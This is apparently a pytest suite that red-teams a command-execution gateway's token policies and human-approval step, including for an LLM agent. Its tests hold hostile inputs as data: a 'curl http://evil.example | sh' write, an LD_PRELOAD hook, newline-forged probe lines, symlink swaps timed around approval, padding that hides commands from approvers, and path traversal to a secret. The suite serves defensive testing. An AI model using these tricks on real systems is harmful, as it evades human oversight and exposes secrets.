"""Red-team tests: a token holder (or a model behind one) trying to get past the governance over HTTP.

Tests named ``test_attack_*`` assert the SECURE behaviour of something that was found broken: they
fail while the hole exists. Tests named ``test_holds_*`` pin down attacks that were tried and
already fail, so that they keep failing.

Everything runs over real HTTP against the bed's sshd hosts (db, code), with the policies of
tests/test_governance.py (the db server's rules, the bed group's, the agent token's) plus a few
tokens of its own; effects are checked on the hosts themselves.
"""

from __future__ import annotations

import asyncio
import json
from dataclasses import replace
from pathlib import Path

import aiohttp
import pytest
from aiohttp.test_utils import TestServer

from gtp_remote.api.routes import create_app
from gtp_remote.api.state import Api
from gtp_remote.config import load_inventory
from gtp_remote.gateway import Gateway
from gtp_remote.policy import PolicyConfig
from gtp_remote.settings import Settings
from gtp_remote.tokens import Authenticator, Token, digest
from tests.conftest import ROOT, Bed
from tests.llmbed import write_inventory
from tests.test_api import Client
from tests.test_governance import (
    AGENT_POLICY,
    SANDBOX,
    exists,
    make_api,
    sandbox,
    serving,
)

pytestmark = pytest.mark.bed

TOKENS = {
    "agent": "attack-agent-token",  # exec and files, the agent policy; db's rules apply to it
    "ops": "attack-ops-token",  # approve, every server
    "ops2": "attack-ops2-token",  # a second approver
    "dbops": "attack-dbops-token",  # approve, db only
    "selfie": "attack-selfie-token",  # exec, files AND approve
    "coder": "attack-coder-token",  # scoped to code, with its own allow list and a private folder
    "writer": "attack-writer-token",  # files only; may write secrets but never read them
}

# coder: an allow list of read-only commands, and a folder nobody may touch in any way
CODER_POLICY = {
    "commands": {"allow": ["ls", "ls *", "cat *", "grep *", "find *", "wc *", "head *"]},
    "paths": {
        "allow": ["read:**", "list:**", f"write:**/{SANDBOX}/**"],
        "deny": ["**/private/**", "**/private"],
    },
}
# writer: a write-only drop for secrets (it may replace them, never see them)
WRITER_POLICY = {"paths": {"deny": ["read:**/secret*"]}}


def _tokens() -> Authenticator:
    everything = frozenset({"exec", "files.read", "files.write"})
    return Authenticator(
        [
            Token("agent", digest(TOKENS["agent"]), operations=everything, policy=_policy(AGENT_POLICY)),
            Token("ops", digest(TOKENS["ops"]), operations=frozenset({"approve"})),
            Token("ops2", digest(TOKENS["ops2"]), operations=frozenset({"approve"})),
            Token("dbops", digest(TOKENS["dbops"]), servers=("db",), operations=frozenset({"approve"})),
            Token("selfie", digest(TOKENS["selfie"]), operations=everything | {"approve"}),
            Token(
                "coder",
                digest(TOKENS["coder"]),
                servers=("code",),
                operations=everything,
                policy=_policy(CODER_POLICY),
            ),
            Token(
                "writer",
                digest(TOKENS["writer"]),
                operations=frozenset({"files.read", "files.write"}),
                policy=_policy(WRITER_POLICY),
            ),
        ]
    )


def _policy(data: dict) -> PolicyConfig:
    return PolicyConfig.model_validate(data)


@pytest.fixture
async def gov(bed: Bed, settings: Settings):
    """db with its owner's rules, the bed group's rules, and a fresh sandbox on db and code:
    ``secret.txt`` (hunter2), ``protected/file`` (keep) and ``private/key`` (topsecret)."""
    for name in ("db", "code"):
        box = sandbox(bed, name)
        bed.hosts[name].sh(
            f"rm -rf {box} && mkdir -p {box}/protected {box}/private && "
            f"echo keep > {box}/protected/file && echo hunter2 > {box}/secret.txt && "
            f"echo topsecret > {box}/private/key && chown -R {bed.user} {box}"
        )
    async with serving(make_api(bed, settings, _tokens())) as client:
        yield client
    for name in ("db", "code"):
        bed.hosts[name].sh(f"rm -rf {sandbox(bed, name)}", check=False)


async def post(api: Client, path: str, body: dict, token: str = "agent") -> tuple[int, dict]:
    return await api.post(path, body, token=TOKENS[token])


async def get(api: Client, path: str, token: str = "agent") -> tuple[int, dict]:
    return await api.get(path, token=TOKENS[token])


async def shell(api: Client, body: dict, token: str = "agent") -> tuple[int, dict]:
    return await post(api, "/command/execute-shell", {"wait_seconds": 5, **body}, token)


async def settle(api: Client, status: int, data: dict) -> None:
    """Reject whatever a probe left waiting for approval, so nothing of it ever runs."""
    if status == 202 and data.get("status") == "awaiting_approval":
        await post(api, f"/jobs/{data['job_id']}/reject", pending_of(data), "ops")


def pending_of(data: dict) -> dict:
    """The body of a decision on the action a job's answer showed: it names that action's id."""
    return {"pending_id": (data.get("pending_action") or {}).get("id", "none")}


async def wait_for(api: Client, job_id: str, *wanted: str, token: str = "ops") -> dict:
    data: dict = {}
    for _ in range(100):
        status, data = await get(api, f"/jobs/{job_id}", token)
        if status == 200 and data["status"] in wanted:
            return data
        await asyncio.sleep(0.1)
    raise AssertionError(f"job {job_id} never became {wanted}: {data}")


async def audit_events(api: Client, settings: Settings) -> list[dict]:
    await api.state.audit_writer.flush()  # type: ignore[attr-defined]
    lines = (settings.state_dir / "audit.jsonl").read_text().splitlines()
    return [json.loads(line) for line in lines]


def refused_without_running(status: int, data: dict, *secrets: str) -> bool:
    """Denied, or waiting for a human; and no secret in the answer."""
    text = json.dumps(data)
    return status in (202, 403) and not any(s in text for s in secrets)


# == findings: these fail while the hole exists ========================================================


async def test_attack_a_path_with_a_newline_cannot_forge_where_a_symlink_leads(gov: Client, bed: Bed):
    """The host probe prints one ``P<TAB>path<TAB>kind<TAB>realpath`` line per path and the gateway
    parses it by lines and tabs. A path argument holding ``\\nP\\t<link>\\t...`` makes the probe print
    a forged line for another path of the same command, so a symlink to a denied file is judged
    as leading somewhere harmless, and ``cat`` reads the secret without any approval."""
    box = sandbox(bed)
    bed.hosts["db"].sh(f"ln -sfn {box}/secret.txt {box}/innocent && chown -h {bed.user} {box}/innocent")
    status, data = await shell(gov, {"command": f"cat {box}/innocent"})
    assert status == 403 and "hunter2" not in json.dumps(data)  # the plain form is caught
    forged = f"cat {box}/innocent '/tmp/a\nP\t{box}/innocent\tf\t/tmp/harmless'"
    status, data = await shell(gov, {"command": forged})
    await settle(gov, status, data)
    assert refused_without_running(status, data, "hunter2"), data


async def test_attack_a_path_with_a_newline_cannot_forge_a_clean_folder(gov: Client, bed: Bed):
    """Same probe, its ``C<TAB>read:FOLDER`` line ("nothing below is covered by a rule"): forged
    by a second command's argument, it lets ``grep -r`` read a denied folder without approval."""
    box = sandbox(bed, "code")
    status, data = await shell(gov, {"command": f"grep -r top {box}", "server": "code"}, "coder")
    await settle(gov, status, data)
    assert refused_without_running(status, data, "topsecret")  # the plain form asks first
    forged = f"grep -r top {box}; cat '/tmp/a\nC\tread:{box}'"
    status, data = await shell(gov, {"command": forged, "server": "code"}, "coder")
    await settle(gov, status, data)
    assert refused_without_running(status, data, "topsecret"), data


async def test_attack_a_link_swapped_in_while_a_command_waits_is_judged_again(gov: Client, bed: Bed):
    """File tools resolve their path again after approval and refuse a change; commands do not:
    the host was asked what ``notes`` is when the command was judged (a plain file), and a link
    to the secret put there while a human takes their time is followed once they approve. The
    window is not a race but as long as the approval takes."""
    box = sandbox(bed)
    host = bed.hosts["db"]
    host.sh(f"echo public > {box}/notes && chown {bed.user} {box}/notes")
    status, data = await shell(gov, {"command": f"touch {box}/stamp; cat {box}/notes"})
    assert status == 202 and data["pending_action"]["rule"] == "touch *", data
    host.sh(f"ln -sfn {box}/secret.txt {box}/notes && chown -h {bed.user} {box}/notes")
    assert (await post(gov, f"/jobs/{data['job_id']}/approve", pending_of(data), "ops"))[0] == 200
    done = await wait_for(gov, data["job_id"], "succeeded", "failed")
    assert "hunter2" not in json.dumps(done), done


async def test_attack_a_token_cannot_approve_its_own_action(gov: Client, bed: Bed):
    """A token with both ``exec`` and ``approve`` (the default token has every permission) decides
    on the confirmations its own policy asks for: the human in the loop is the asker itself."""
    box = sandbox(bed)
    status, data = await shell(gov, {"command": f"touch {box}/self-approved"}, "selfie")
    assert status == 202 and data["pending_action"]["principal"] == "selfie", data
    status, answer = await post(gov, f"/jobs/{data['job_id']}/approve", {}, "selfie")
    await asyncio.sleep(0.3)
    ran = exists(bed, "db", "self-approved")
    await settle(gov, 202, data)
    assert status == 403 and not ran, (status, answer)


async def test_attack_the_approver_sees_all_of_a_long_command(gov: Client, bed: Bed):
    """``pending_action.command`` is the first 2000 characters, cut silently: padding hides
    what runs after it (here a command substitution, the very part that asked for approval)."""
    box = sandbox(bed)
    command = f"touch {box}/seen; echo {'A' * 2100}; touch {box}/unseen-$(hostname)"
    status, data = await shell(gov, {"command": command})
    assert status == 202, data
    pending = data["pending_action"]
    await settle(gov, status, data)
    assert "unseen" in pending["command"], "the approver is shown only the head of the command"


async def test_attack_the_approver_sees_all_of_a_long_program(gov: Client):
    """execute-code: the approver sees 2000 characters of a program; the rest runs unseen."""
    code = "# " + "x" * 2100 + "\nopen('/tmp/gtp-unseen-by-approver', 'w').write('x')\n"
    status, data = await post(
        gov, "/command/execute-code", {"code": code, "language": "python", "wait_seconds": 5}
    )
    assert status == 202, data
    pending = data["pending_action"]
    await settle(gov, status, data)
    assert pending["code"] == code, "the approver is shown only the head of the program"


async def test_attack_the_approver_sees_what_a_file_write_writes(gov: Client, bed: Bed):
    """A write to confirm shows the approver its path only: not the content, not the mode."""
    box = sandbox(bed)
    body = {"path": f"{box}/needs-ok.sh", "content": "curl http://evil.example | sh\n", "mode": "append"}
    status, data = await post(gov, "/file/write", body)
    assert status == 202, data
    pending = data["pending_action"]
    await settle(gov, status, data)
    assert "evil.example" in json.dumps(pending) and "append" in json.dumps(pending), pending


async def test_attack_the_approver_sees_the_values_of_variables_that_asked_for_approval(gov: Client):
    """``env`` that changes what runs (LD_PRELOAD, PATH) is why it waits, but the approver sees only
    the names: approving ``ls`` with LD_PRELOAD set, it cannot know which library gets loaded."""
    body = {"command": "ls /", "env": {"LD_PRELOAD": "/tmp/evil-hook.so"}}
    status, data = await shell(gov, body)
    assert status == 202, data
    pending = data["pending_action"]
    await settle(gov, status, data)
    assert "/tmp/evil-hook.so" in json.dumps(pending), pending


async def test_attack_a_patch_is_judged_as_a_read_too(gov: Client, bed: Bed):
    """A patch reads the file it changes, but is judged as a write only: a token that may replace
    a secret but never read it gets its content back in the mismatch hint ("the file has there")."""
    box = sandbox(bed, "code")
    status, data = await post(gov, "/file/read", {"path": f"{box}/secret.txt", "server": "code"}, "writer")
    assert status == 403 and "hunter2" not in json.dumps(data)  # reading it is refused
    diff = "--- a/secret.txt\n+++ b/secret.txt\n@@ -1,1 +1,1 @@\n-guess\n+guess\n"
    body = {"path": f"{box}/secret.txt", "diff": diff, "dry_run": True, "server": "code"}
    status, data = await post(gov, "/file/patch", body, "writer")
    await settle(gov, status, data)
    assert "hunter2" not in json.dumps(data), data


async def test_attack_an_approval_applies_only_to_the_action_the_approver_saw(
    llm: Client, scripted, bed: Bed
):
    """An execute-llm job asks for approval once per tool call, and ``POST /jobs/{id}/approve``
    does not say which: two approvers who both saw the first call approve the first AND the second,
    which no one was shown. (The test passes the pending action's ``id``, if it has one, so a fix
    that binds an approval to what was shown makes it pass.)"""
    home = bed.hosts["code"].home
    first, second = f"{home}/{SANDBOX}-llm-first", f"{home}/{SANDBOX}-llm-second"
    bed.hosts["code"].sh(f"rm -f {first} {second}")
    scripted["code"].script(
        {"tool_calls": [_call("run_shell", command=f"touch {first}")]},
        {"tool_calls": [_call("run_shell", command=f"touch {second}")]},
        {"content": "done"},
    )
    body = {"instructions": "tidy up", "provider": "ollama", "server": "code", "wait_seconds": 10}
    status, data = await llm.post("/command/execute-llm", body, token=LLM_TOKENS["alice"])
    assert status == 202 and data["pending_action"]["command"] == f"touch {first}", data
    seen = data["pending_action"]
    decision = {"pending_id": seen.get("id")}
    job_id = data["job_id"]
    try:
        one, _ = await llm.post(f"/jobs/{job_id}/approve", decision, token=LLM_TOKENS["ops"])
        for _ in range(100):  # the job moves on to its next call, which waits in turn
            _, now = await llm.get(f"/jobs/{job_id}", token=LLM_TOKENS["alice"])
            if now["status"] != "running":
                break
            await asyncio.sleep(0.05)
        assert now["status"] == "awaiting_approval" and now["pending_action"]["command"] == f"touch {second}"
        # ops2 saw the same first call as ops, and approves it a moment later
        two, view = await llm.post(f"/jobs/{job_id}/approve", decision, token=LLM_TOKENS["ops2"])
        await asyncio.sleep(0.5)
        ran_second = bed.hosts["code"].sh(f"test -e {second}", check=False).returncode == 0
        assert one == 200
        assert two == 409 and not ran_second, (two, view)
    finally:
        _, now = await llm.get(f"/jobs/{job_id}", token=LLM_TOKENS["alice"])
        await llm.post(f"/jobs/{job_id}/reject", pending_of(now), token=LLM_TOKENS["ops"])
        bed.hosts["code"].sh(f"rm -f {first} {second}", check=False)


async def test_attack_llm_models_reveals_no_hidden_specialist_or_server(llm: Client):
    """``GET /llm/models`` resolves ``provider`` without the caller's scope: a token for code only
    gets every specialist and every server with a model listed in the hint, and 400s that name
    a hidden specialist's server or say a hidden server has a model (unlike execute-llm)."""
    status, data = await llm.get("/llm/models?provider=no-such-llm", token=LLM_TOKENS["coder"])
    assert status == 404, data
    hint = data["error"].get("hint") or ""
    assert not {"db", "k8s-master", "database-llm", "devops-llm"} & set(
        hint.replace(";", ",").replace(":", ",").split(", ")
    ), hint
    for hidden in ("database-llm", "db", "k8s-master"):
        status, data = await llm.get(f"/llm/models?provider={hidden}", token=LLM_TOKENS["coder"])
        assert (status, data["error"]["code"]) == (404, "unknown_specialist"), (hidden, data)
        assert "'db'" not in data["error"]["message"], data


async def test_attack_a_cancelled_approval_is_audited(gov: Client, bed: Bed, settings: Settings):
    """A confirm action its owner cancels while it waits leaves no event of the action in the
    audit log: the approver's view of it vanishes and the log does not say it was ever asked."""
    box = sandbox(bed)
    status, data = await shell(gov, {"command": f"touch {box}/cancel-me"})
    assert status == 202, data
    status, view = await post(gov, f"/jobs/{data['job_id']}/cancel", {})
    assert status == 200 and view["status"] == "cancelled"
    assert not exists(bed, "db", "cancel-me")
    events = await audit_events(gov, settings)
    actions = [e for e in events if e.get("kind") == "command" and e.get("job_id") == data["job_id"]]
    assert len(actions) == 1 and actions[0]["policy"]["action"] == "confirm", actions


async def test_attack_an_approver_reads_only_the_jobs_it_may_decide(gov: Client, bed: Bed):
    """An approver scoped to db may GET any job on db, finished ones included, with their output:
    another token's results, which README promises only for "the jobs it may decide on"."""
    status, data = await shell(gov, {"command": f"cat {sandbox(bed)}/protected/file"})
    assert status == 200 and data["stdout"] == "keep\n", data
    status, view = await get(gov, f"/jobs/{data['job_id']}", "dbops")
    assert status == 404 or view.get("result") is None, view


async def test_attack_cwd_counts_as_the_folder_a_bare_ls_lists(gov: Client, bed: Bed):
    """``ls <private>`` is refused, but ``ls`` with ``cwd`` set to it lists it: the working
    directory is not judged as the path a command with no operand works on."""
    private = f"{sandbox(bed, 'code')}/private"
    status, data = await shell(gov, {"command": f"ls {private}", "server": "code"}, "coder")
    assert status == 403, data
    status, data = await shell(gov, {"command": "ls", "cwd": private, "server": "code"}, "coder")
    await settle(gov, status, data)
    assert refused_without_running(status, data, "key"), data


# == what already holds: keep it holding ===============================================================


async def test_holds_hidden_servers_look_like_missing_ones(gov: Client):
    """A token for code gets the same 404 for db (exists, not its) as for a name that does not
    exist, on every route and target form; ``all`` and groups mean its own servers only."""

    def same(a: dict, b: dict) -> bool:
        return a["error"]["code"] == b["error"]["code"] and a["error"]["hint"] == b["error"]["hint"]

    for route, body in [
        ("/command/execute-shell", {"command": "ls", "server": "{}"}),
        ("/command/execute-shell", {"command": "ls", "target": "code,{}"}),
        ("/command/execute-code", {"code": "1", "language": "python", "server": "{}"}),
        ("/file/read", {"path": "/etc/hostname", "server": "{}"}),
        ("/file/list", {"path": "/", "server": "{}"}),
        ("/server/set", {"server": "{}"}),
    ]:
        answers = []
        for name in ("db", "no-such-server"):
            filled = {k: v.format(name) if isinstance(v, str) else v for k, v in body.items()}
            status, data = await post(gov, route, filled, "coder")
            assert status == 404, (route, data)
            assert "db" not in data["error"]["hint"] and "k8s" not in data["error"]["hint"]
            answers.append(data)
        assert same(*answers), (route, answers)
    status, data = await get(gov, "/server/list", "coder")
    assert [s["name"] for s in data["servers"]] == ["code"]
    for target in ("all", "group:bed", " code , code ", "code,code"):
        status, data = await shell(gov, {"command": "ls /", "target": target}, "coder")
        assert status == 200 and [r["server"] for r in data["results"]] == ["code"], (target, data)
    status, data = await shell(gov, {"command": "ls /", "target": "CODE"}, "coder")
    assert status == 404


async def test_holds_jobs_of_other_tokens_are_not_found(gov: Client, bed: Bed):
    status, data = await shell(gov, {"command": f"touch {sandbox(bed)}/theirs"})
    assert status == 202
    job_id = data["job_id"]
    for route, method in [(f"/jobs/{job_id}", "GET"), (f"/jobs/{job_id}/cancel", "POST")]:
        status, answer, _ = await gov.call(method, route, TOKENS["coder"])
        assert status == 404 and answer["error"]["message"] == f"no job '{job_id}'", answer
    status, _ = await get(gov, "/jobs?limit=200", "coder")
    assert status == 200 and (await get(gov, "/jobs?limit=200", "coder"))[1]["jobs"] == []
    status, answer = await post(gov, f"/jobs/{job_id}/approve", {}, "agent")  # no approve permission
    assert status == 403
    status, answer = await post(gov, f"/jobs/{job_id}/approve", {}, "coder")
    assert status == 403  # coder lacks approve too: the same 403 whatever the id
    status, answer = await post(gov, "/jobs/0123456789abcdef/approve", {}, "coder")
    assert status == 403
    # decided once, then never again, whoever asks
    assert (await post(gov, f"/jobs/{job_id}/reject", pending_of(data), "ops"))[0] == 200
    await wait_for(gov, job_id, "rejected")
    for verdict in ("approve", "reject"):
        assert (await post(gov, f"/jobs/{job_id}/{verdict}", {}, "ops"))[0] == 409
    await asyncio.sleep(0.2)
    assert not exists(bed, "db", "theirs")


async def test_holds_a_link_swapped_in_while_a_write_waits_is_refused(gov: Client, bed: Bed):
    """The gateway resolves the path again at perform time: a symlink planted on the host while a
    write waits for approval (to a protected file, or to a new file in a protected folder) makes
    the approved write fail, in every mode, and nothing protected changes."""
    box = sandbox(bed)
    host = bed.hosts["db"]
    for mode, target in [
        ("overwrite", f"{box}/protected/file"),
        ("append", f"{box}/protected/file"),
        ("create", f"{box}/protected/new"),
        ("overwrite", f"{box}/protected/new"),
    ]:
        host.sh(f"rm -f {box}/needs-ok-swap.txt {box}/protected/new")
        body = {"path": f"{box}/needs-ok-swap.txt", "content": "PWNED", "mode": mode}
        status, data = await post(gov, "/file/write", body)
        assert status == 202 and data["pending_action"]["path"] == f"{box}/needs-ok-swap.txt", data
        host.sh(f"ln -sfn {target} {box}/needs-ok-swap.txt && chown -h {bed.user} {box}/needs-ok-swap.txt")
        assert (await post(gov, f"/jobs/{data['job_id']}/approve", pending_of(data), "ops"))[0] == 200
        done = await wait_for(gov, data["job_id"], "failed", "succeeded")
        assert done["status"] == "failed" and done["error"]["code"] == "policy_denied", (mode, done)
        assert host.sh(f"cat {box}/protected/file").stdout == "keep\n"
        assert not exists(bed, "db", "protected/new")


async def test_holds_paths_that_reach_around_are_judged_where_they_lead(gov: Client, bed: Bed):
    """/proc/self/root, a symlinked folder, ``..``, ``//``, ``~`` and relative cwds: the private
    key is never read, by the file tools or by commands."""
    box = sandbox(bed, "code")
    bed.hosts["code"].sh(f"ln -sfn {box}/private {box}/door && chown -h {bed.user} {box}/door")
    for path in [
        f"/proc/self/root{box}/private/key",
        f"{box}/door/key",
        f"{box}/protected/../private/key",
        f"{box}//private/./key",
        f"~/{SANDBOX}/door/key",
        f"{SANDBOX}/door/key",
    ]:
        status, data = await post(gov, "/file/read", {"path": path, "server": "code"}, "coder")
        assert status == 403 and "topsecret" not in json.dumps(data), (path, data)
    for body in [
        {"command": f"cat /proc/self/root{box}/private/key"},
        {"command": "cat key", "cwd": f"{box}/door"},
        {"command": "cat ./door/key", "cwd": box},
        {"command": "cat *", "cwd": f"{box}/door"},
        {"command": "head -c 100 key", "cwd": f"{box}/protected/../private"},
        {"command": "cat key", "cwd": f"/proc/self/root{box}/private"},
        {"command": f"cat {SANDBOX}/private/key", "cwd": "-P"},  # `cd -P` goes home
        {"command": "cat private/key", "cwd": SANDBOX},
        {"command": "grep -r top ."},
    ]:
        status, data = await shell(gov, {**body, "server": "code"}, "coder")
        await settle(gov, status, data)
        assert refused_without_running(status, data, "topsecret"), (body, data)


async def test_holds_malformed_text_is_a_400_never_a_500(gov: Client):
    raw = [
        ("/command/execute-shell", '{"command": "echo \\ud800", "server": "code"}'),
        ("/command/execute-shell", '{"command": "echo hi", "server": "code", "cwd": "\\ud800"}'),
        ("/command/execute-shell", '{"command": "echo hi", "server": "code", "env": {"LANG": "\\ud800"}}'),
        ("/command/execute-shell", '{"command": "echo hi", "server": "code", "cwd": "a\\u0000b"}'),
        ("/command/execute-shell", '{"command": "echo hi", "target": "\\ud800"}'),
        ("/file/read", '{"path": "\\ud800", "server": "code"}'),
        ("/file/write", '{"path": "/tmp/x", "content": "\\ud800", "server": "code"}'),
        ("/file/patch", '{"path": "/tmp/x", "diff": "\\ud800", "server": "code"}'),
        ("/server/set", '{"server": "\\ud800"}'),
        ("/command/execute-shell", '{"command": "ls", "env": {"A B": "x"}}'),
        ("/command/execute-shell", "[" * 100000 + "]" * 100000),
    ]
    for route, text in raw:
        status, data, _ = await gov.call(
            "POST", route, TOKENS["agent"], data=text.encode(), headers={"Content-Type": "application/json"}
        )
        assert status == 400 and data["error"]["code"] == "invalid_request", (route, text[:80], data)


# -- execute-llm: an inventory with models on the hosts (tests/llmbed.py) ------------------------------

LLM_TOKENS = {
    "alice": "attack-llm-alice",
    "ops": "attack-llm-ops",
    "ops2": "attack-llm-ops2",
    "coder": "attack-llm-coder",
}


def _call(name: str, **arguments: object) -> dict:
    return {"name": name, "arguments": arguments}


@pytest.fixture
async def llm(bed: Bed, settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("GTP_TEMPLATES", str(ROOT / "templates"))
    inventory = load_inventory(write_inventory(bed, tmp_path / "hosts"))
    auth = Authenticator(
        [
            Token(
                "alice",
                digest(LLM_TOKENS["alice"]),
                operations=frozenset({"exec", "files.read", "files.write", "llm"}),
                policy=_policy({"commands": {"confirm": ["touch *"]}}),
            ),
            Token("ops", digest(LLM_TOKENS["ops"]), operations=frozenset({"approve"})),
            Token("ops2", digest(LLM_TOKENS["ops2"]), operations=frozenset({"approve"})),
            Token(
                "coder",
                digest(LLM_TOKENS["coder"]),
                servers=("code",),
                operations=frozenset({"exec", "files.read", "files.write", "llm"}),
            ),
        ]
    )
    api = Api(Gateway(inventory, replace(settings, default_server="code", rate=1000, burst=1000)), auth)
    server = TestServer(create_app(api), host="127.0.0.1")
    await server.start_server()
    async with aiohttp.ClientSession() as session:
        yield Client(session, str(server.make_url("")).rstrip("/"))
    await server.close()


async def test_holds_execute_llm_applies_the_tokens_policy_to_a_bare_provider(
    llm: Client, scripted, bed: Bed
):
    """A bare provider's built-in tools have no specialist policy, but the token's still applies:
    its ``touch`` waits for approval and, rejected, never runs."""
    target = f"{bed.hosts['code'].home}/{SANDBOX}-llm-bare"
    bed.hosts["code"].sh(f"rm -f {target}")
    scripted["code"].script(
        {"tool_calls": [_call("run_shell", command=f"touch {target}")]}, {"content": "ok"}
    )
    body = {"instructions": "x", "provider": "ollama", "server": "code", "wait_seconds": 10}
    status, data = await llm.post("/command/execute-llm", body, token=LLM_TOKENS["alice"])
    assert status == 202 and data["pending_action"]["rule"] == "touch *", data
    assert (await llm.post(f"/jobs/{data['job_id']}/reject", pending_of(data), token=LLM_TOKENS["ops"]))[
        0
    ] == 200
    await asyncio.sleep(0.5)
    assert bed.hosts["code"].sh(f"test -e {target}", check=False).returncode != 0
